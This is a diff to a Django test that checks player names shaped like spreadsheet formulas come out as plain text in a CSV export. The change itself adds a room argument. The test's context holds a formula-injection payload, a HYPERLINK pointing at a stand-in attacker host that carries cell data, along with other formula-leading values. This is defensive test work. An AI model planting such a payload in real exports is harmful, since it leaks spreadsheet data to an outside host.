@@ -9,6 +9,7 @@ from django.urls import reverse
 
 from tables import services
 from tables.models import ExpulsionDuration
+from tests.factories import home_room
 
 LINK = '=HYPERLINK("http://evil.example/?d="&B2,"open")'
 
@@ -17,6 +18,7 @@ def test_a_player_named_as_a_formula_is_text_in_the_csv(floor_manager, accountan
     player = make_player(LINK, "Avetisyan", alias="@SUM(1+1)")
     services.expulsion_create(
         actor=floor_manager,
+        room=home_room(),
         player_id=player.pk,
         rule="-1+1",
         reason="+cheating at table 3",
